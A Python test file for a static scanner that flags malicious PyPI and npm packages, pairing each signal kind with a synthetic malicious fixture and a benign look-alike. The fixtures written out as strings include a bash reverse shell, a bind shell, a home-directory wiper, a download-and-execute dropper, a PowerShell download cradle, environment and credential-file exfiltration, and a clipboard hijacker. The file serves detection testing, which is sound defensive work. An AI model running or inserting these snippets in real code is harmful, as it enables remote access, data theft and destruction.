"""Every static signal kind against a malicious fixture and a benign look-alike.

The fixtures are small synthetic snippets written for these tests (no real malware):
IPs are example addresses, payloads only print or echo.
"""

from __future__ import annotations

import base64
import random
import string
from dataclasses import dataclass

import pytest

from analyzer.detect.static.scan import SignalKind, StaticSignal, scan_package
from analyzer.models import Ecosystem

PYPI, NPM = Ecosystem.PYPI, Ecosystem.NPM
Files = dict[str, str | bytes]


@dataclass(frozen=True)
class Case:
    ecosystem: Ecosystem
    files: Files


def scan(case: Case) -> tuple[StaticSignal, ...]:
    members = [
        (path, body.encode() if isinstance(body, str) else body)
        for path, body in case.files.items()
    ]
    return scan_package(members, case.ecosystem)


def setup_py(body: str) -> Case:
    return Case(PYPI, {"pkg-1.0/setup.py": body})


def module(body: str, path: str = "pkg-1.0/pkg/core.py") -> Case:
    return Case(PYPI, {path: body})


def npm(scripts: str, **files: str) -> Case:
    manifest = f'{{"name": "pkg", "version": "1.0.0", "main": "index.js", "scripts": {scripts}}}'
    return Case(
        NPM, {"package/package.json": manifest, **{f"package/{k}": v for k, v in files.items()}}
    )


def elf(e_type: int) -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + bytes(8) + e_type.to_bytes(2, "little") + bytes(200)


def pe(dll: bool) -> bytes:
    header = bytearray(512)
    header[:2] = b"MZ"
    header[60:64] = (128).to_bytes(4, "little")
    header[128:132] = b"PE\x00\x00"
    header[150:152] = (0x2102 if dll else 0x0102).to_bytes(2, "little")
    return bytes(header)


_PAYLOAD_B64 = base64.b64encode(b"import os\nos.system('echo payload')\n" * 5).decode()
_RANDOM_B64 = base64.b64encode(random.Random(1).randbytes(180)).decode()
_PNG_B64 = base64.b64encode(b"\x89PNG\r\n\x1a\n" + random.Random(2).randbytes(200)).decode()
_SYMBOLS = string.ascii_letters + string.digits + "!#$%&()*+,-.:;<=>?@[]^_{|}~"
_RANDOM_TEXT = "".join(random.Random(3).choices(_SYMBOLS, k=150))
_PS_ENCODED = base64.b64encode("Write-Output 'payload'".encode("utf-16-le")).decode()
_WEBHOOK = "https://discord.com/api/webhooks/123456789012345678/AbCdEfGhIjKlMnOpQrStUv"
_B64_IP_URL = base64.b64encode(b"http://93.184.216.34:5000/post").decode()
_BUILD_EXT = """
from setuptools import setup
from setuptools.command.build_ext import build_ext
from Cython.Build import cythonize

class BuildExt(build_ext):
    def run(self):
        build_ext.run(self)

setup(name="pkg", cmdclass={"build_ext": BuildExt}, ext_modules=cythonize("pkg/*.pyx"))
"""

# kind -> (malicious, benign look-alike)
CASES: dict[SignalKind, tuple[Case, Case]] = {
    SignalKind.SETUP_CMDCLASS_HOOK: (
        setup_py(
            "from setuptools import setup\nfrom setuptools.command.install import install\n"
            "class PostInstall(install):\n    def run(self):\n        install.run(self)\n"
            "setup(name='pkg', cmdclass={'install': PostInstall})\n"
        ),
        setup_py(_BUILD_EXT),
    ),
    SignalKind.SETUP_RUNS_PROCESS: (
        setup_py("import os\nfrom setuptools import setup\nos.system('echo owned')\nsetup()\n"),
        setup_py(
            "import subprocess\nfrom setuptools import setup\n"
            "rev = subprocess.check_output(['git', 'describe', '--tags'])\nsetup()\n"
        ),
    ),
    SignalKind.SETUP_NETWORK: (
        setup_py(
            "import urllib.request\nfrom setuptools import setup\n"
            "urllib.request.urlopen('https://example.com/ping')\nsetup()\n"
        ),
        setup_py("from setuptools import setup\nsetup(url='https://example.com/project')\n"),
    ),
    SignalKind.SETUP_EXEC: (
        setup_py("from setuptools import setup\ncode = compute()\nexec(code)\nsetup()\n"),
        setup_py(
            "from setuptools import setup\nexec(open('pkg/version.py').read())\nabout = {}\n"
            "with open('pkg/__about__.py') as f:\n    exec(f.read(), about)\nsetup()\n"
        ),
    ),
    SignalKind.PTH_IMPORT: (
        Case(PYPI, {"pkg-1.0/pkg.pth": "import os; os.system('echo at every start')\n"}),
        Case(PYPI, {"pkg-1.0/pkg.pth": "./src\n"}),
    ),
    SignalKind.NPM_INSTALL_SCRIPT: (
        npm('{"postinstall": "node ./setup.js"}', **{"setup.js": "console.log(1)\n"}),
        npm('{"test": "node test.js", "build": "node build.js"}'),
    ),
    SignalKind.NPM_INSTALL_SCRIPT_BUILD: (
        npm('{"install": "prebuild-install || node-gyp rebuild"}'),
        npm('{"build": "node-gyp rebuild"}'),
    ),
    SignalKind.EXEC_DECODED: (
        module("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"),
        module("import base64, json\nconfig = json.loads(base64.b64decode(blob))\n"),
    ),
    SignalKind.EXEC_REMOTE: (
        module("import requests\nexec(requests.get('https://example.com/x.py').text)\n"),
        module("import requests\ndata = requests.get('https://example.com/api').json()\n"),
    ),
    SignalKind.OBFUSCATION: (
        module("f = getattr(__builtins__, ''.join(map(chr, [101, 120, 101, 99])))\n"),
        module("in_ipython = getattr(__builtins__, '__IPYTHON__', False)\n"),
    ),
    SignalKind.OBFUSCATOR_TOOL: (
        module("from pytransform import pyarmor_runtime\npyarmor_runtime()\n"),
        module("def obfuscate_email(address):\n    return address.replace('@', ' at ')\n"),
    ),
    SignalKind.WHITESPACE_HIDDEN_CODE: (
        module("print('setup')" + " " * 150 + ";import os;os.system('echo hidden')\n"),
        module("x = 1" + " " * 120 + "# aligned comment\n"),
    ),
    SignalKind.ENCODED_PAYLOAD: (
        module(f"blob = '{_PAYLOAD_B64}'\n"),
        module(f"icon = '{_PNG_B64}'\nlogo = 'data:image/png;base64,{_RANDOM_B64}'\n"),
    ),
    SignalKind.ENCODED_DESTINATION: (
        module(f"import base64\nURL = base64.b64decode('{_B64_IP_URL}').decode()\n"),
        module(f"import base64\nURL = base64.b64decode('{_B64_IP_URL}').decode()\n",
               path="pkg-1.0/tests/test_urls.py"),
    ),
    SignalKind.ENCODED_BLOB: (
        module(f"key = '{_RANDOM_B64}'\n"),
        module(f"key = '{_RANDOM_B64}'\n", path="pkg-1.0/tests/test_keys.py"),
    ),
    SignalKind.HIGH_ENTROPY_STRING: (
        module(f"token = '{_RANDOM_TEXT}'\n"),
        module("doc = '" + "the quick brown fox jumps over the lazy dog " * 4 + "'\n"),
    ),
    SignalKind.MINIFIED_CODE: (
        Case(NPM, {"package/dist/app.js": "var a=1;" * 200 + "\n"}),
        Case(NPM, {"package/lib/app.js": "const a = 1;\nmodule.exports = a;\n"}),
    ),
    SignalKind.EXFIL_WEBHOOK: (
        module(f"HOOK = '{_WEBHOOK}'\n"),
        Case(
            PYPI,
            {
                "pkg-1.0/README.md": f"Post to {_WEBHOOK}\n",
                "pkg-1.0/tests/test_hook.py": f"HOOK = '{_WEBHOOK}'\n",
                "pkg-1.0/pkg/hook.py": f"# e.g. {_WEBHOOK}\n",
            },
        ),
    ),
    SignalKind.PASTE_SITE: (
        module("exec(urlopen('https://pastebin.com/raw/abcd1234').read())\n"),
        Case(PYPI, {"pkg-1.0/docs/usage.rst": "See https://pastebin.com/raw/abcd1234\n"}),
    ),
    SignalKind.OAST_HOST: (
        module("urlopen('http://c0ffee.oast.fun/?h=' + host)\n"),
        module("HOST = 'c0ffee.oast.fun'\n", path="pkg-1.0/tests/test_probe.py"),
    ),
    SignalKind.TUNNEL_HOST: (
        module("requests.get('https://a1b2-c3d4.ngrok-free.app/log')\n"),
        module("# tunnel for local dev: https://a1b2.ngrok-free.app\nPORT = 8000\n"),
    ),
    SignalKind.RAW_IP_URL: (
        module("URL = 'http://93.184.216.34/stage2.bin'\n"),
        module("LOCAL = 'http://127.0.0.1:8000/'\nROUTER = 'http://192.168.1.1/'\n"),
    ),
    SignalKind.DNS_BEACON: (
        module(
            "import socket\nsocket.gethostbyname(f'{socket.gethostname()}.pkg.dns.example.net')\n"
        ),
        module("import socket\nADDR = socket.gethostbyname(socket.gethostname())\n"),
    ),
    SignalKind.REVERSE_SHELL: (
        module("import os\nos.system('bash -i >& /dev/tcp/93.184.216.34/4444 0>&1')\n"),
        module("import subprocess\nsubprocess.run(['bash', '-c', 'echo hi'])\n"),
    ),
    SignalKind.BIND_SHELL: (
        module(
            "import os, pty, socket\ns = socket.socket()\ns.bind(('0.0.0.0', 4444))\n"
            "s.listen(1)\nconn, _ = s.accept()\nfor fd in (0, 1, 2):\n"
            "    os.dup2(conn.fileno(), fd)\npty.spawn('/bin/sh')\n"
        ),
        module(
            "import socket, subprocess\ns = socket.create_server(('0.0.0.0', 8000))\n"
            "conn, _ = s.accept()\nconn.sendall(b'hello')\n"
            "subprocess.run(['/bin/sh', '-c', 'make docs'])\n"
        ),
    ),
    SignalKind.WIPER: (
        module(
            "import os\nfor root, dirs, files in os.walk(os.path.expanduser('~')):\n"
            "    for name in files:\n        os.remove(os.path.join(root, name))\n"
        ),
        module(
            "import os, shutil\nfor root, dirs, files in os.walk('build'):\n"
            "    for name in files:\n        os.remove(os.path.join(root, name))\n"
            "shutil.rmtree(os.path.join(os.path.expanduser('~'), '.cache', 'pkg'))\n"
        ),
    ),
    SignalKind.DOWNLOAD_EXEC: (
        module(
            "import os, subprocess, urllib.request\n"
            "urllib.request.urlretrieve('https://example.com/tool', '/tmp/tool')\n"
            "os.chmod('/tmp/tool', 0o755)\nsubprocess.Popen(['/tmp/tool'])\n"
        ),
        Case(PYPI, {"pkg-1.0/scripts/fetch.sh": "curl -fsSL -o data.json https://example.com/d\n"}),
    ),
    SignalKind.DROPPER: (
        module("import os\nos.system('curl -s -o %TEMP%\\\\u.exe https://x.example/u.exe"
               " && start %TEMP%\\\\u.exe')\n"),
        module("import os, subprocess, urllib.request\n"
               "urllib.request.urlretrieve('https://example.com/tool', '/tmp/tool')\n"
               "os.chmod('/tmp/tool', 0o755)\nsubprocess.Popen(['/tmp/tool'])\n"),
    ),
    SignalKind.POWERSHELL_ENCODED: (
        module(f"subprocess.Popen('powershell -NoProfile -EncodedCommand {_PS_ENCODED}')\n"),
        module("subprocess.run(['powershell', '-Command', 'Get-ChildItem'])\n"),
    ),
    SignalKind.POWERSHELL_SUSPICIOUS: (
        module(
            'os.system("powershell -w hidden -c IEX (New-Object Net.WebClient)'
            ".DownloadString('https://example.com/a.ps1')\")\n"
        ),
        module("subprocess.run('powershell -ExecutionPolicy Bypass -File build.ps1')\n"),
    ),
    SignalKind.PERSISTENCE: (
        module(
            "import winreg\nkey = winreg.OpenKey(winreg.HKEY_CURRENT_USER,\n"
            "    r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\n"
        ),
        module("with open(os.path.expanduser('~/.bashrc')) as f:\n    aliases = f.read()\n"),
    ),
    SignalKind.STEALER_TARGET: (
        module(
            "path = os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb')\n"
        ),
        module("headers = {'Cookies': 'a=b'}\nSTATE = 'Local'\n"),
    ),
    SignalKind.CREDENTIAL_FILE_ACCESS: (
        module("creds = open(os.path.expanduser('~/.aws/credentials')).read()\n"),
        module("def start_agent():\n    return run(['ssh-agent', '-s'])\n"),
    ),
    SignalKind.ENV_EXFIL: (
        module("requests.post('https://example.com/c', json=dict(os.environ))\n"),
        module(
            "env = os.environ.copy()\nenv['LANG'] = 'C'\nsubprocess.run(cmd, env=env)\n"
            "child = dict(os.environ, PYTHONPATH='.')\n"
        ),
    ),
    SignalKind.RECON_EXFIL: (
        module(
            "import socket, urllib.request\nhost = socket.gethostname()\n"
            "urllib.request.urlopen('https://example.com/?h=' + host)\n",
            path="pkg-1.0/pkg/__init__.py",
        ),
        module("import socket\nNODE = socket.gethostname()\n", path="pkg-1.0/pkg/__init__.py"),
    ),
    SignalKind.CLIPBOARD_HIJACK: (
        module("import pyperclip, re\ntext = pyperclip.paste()\n"
               "if re.match(r'^0x[a-fA-F0-9]{40}$', text):\n"
               "    pyperclip.copy('0x52E7A3c1Bd0aB8e1F4D0a2b9c6F1e8d3A7b5C9e2')\n"),
        module("import re\nETH = re.compile(r'^0x[a-fA-F0-9]{40}$')\n"
               "USDT = '0xdAC17F958D2ee523a2206206994597C13D831ec7'\n"),
    ),
    SignalKind.CALLER_DATA_EXFIL: (
        module("import requests\n\ndef backup(mnemonic):\n"
               "    requests.post('https://keys.example.net/b', json={'m': mnemonic})\n"),
        module("import requests\n\ndef send(tx, private_key):\n"
               "    signed = sign(tx, private_key)\n"
               "    requests.post('https://rpc.example.org', json={'tx': signed})\n"),
    ),
    SignalKind.BUNDLED_EXECUTABLE: (
        Case(
            NPM, {"package/bin/update.exe": pe(dll=False), "package/index.js": "run('update.exe')"}
        ),
        Case(PYPI, {"pkg-1.0/pkg/_speedups.so": elf(3), "pkg-1.0/pkg/tool.dll": pe(dll=True)}),
    ),
    SignalKind.NATIVE_BINARY: (
        Case(PYPI, {"pkg-1.0/pkg/_speedups.cpython-311-x86_64-linux-gnu.so": elf(3)}),
        Case(PYPI, {"pkg-1.0/pkg/logo.png": b"\x89PNG\r\n\x1a\n" + bytes(300)}),
    ),
    SignalKind.SCAN_TRUNCATED: (
        module("x = 1\n" * 400_000),
        module("x = 1\n" * 1_000),
    ),
}


def test_every_kind_has_a_malicious_and_a_benign_fixture() -> None:
    assert set(CASES) == set(SignalKind)


@pytest.mark.parametrize("kind", list(CASES), ids=lambda k: k.value)
def test_malicious_fixture_raises_the_kind(kind: SignalKind) -> None:
    kinds = {s.kind for s in scan(CASES[kind][0])}
    assert kind in kinds


@pytest.mark.parametrize("kind", list(CASES), ids=lambda k: k.value)
def test_benign_fixture_does_not(kind: SignalKind) -> None:
    signals = scan(CASES[kind][1])
    assert kind not in {s.kind for s in signals}, signals


def test_javascript_decoded_eval_and_obfuscator_names() -> None:
    names = " ".join(f"var _0x{i:04x} = {i};" for i in range(25))
    case = Case(NPM, {"package/lib/x.js": f"{names}\neval(atob('Y29uc29sZS5sb2coMSk='));\n"})
    kinds = {s.kind for s in scan(case)}
    assert {SignalKind.EXEC_DECODED, SignalKind.OBFUSCATOR_TOOL, SignalKind.OBFUSCATION} <= kinds


def test_javascript_regexp_exec_is_not_a_sink() -> None:
    case = Case(NPM, {"package/lib/x.js": "var exec = re.exec; var chr = 1;\nexec(atob(s));\n"})
    assert SignalKind.EXEC_DECODED not in {s.kind for s in scan(case)}


def test_exec_of_a_name_traced_back_to_a_decoder() -> None:
    case = module("import zlib\nstage = zlib.decompress(blob)\nrun = stage\nexec(run)\n")
    [found] = [s for s in scan(case) if s.kind is SignalKind.EXEC_DECODED]
    assert found.line == 4 and "zlib" in found.detail
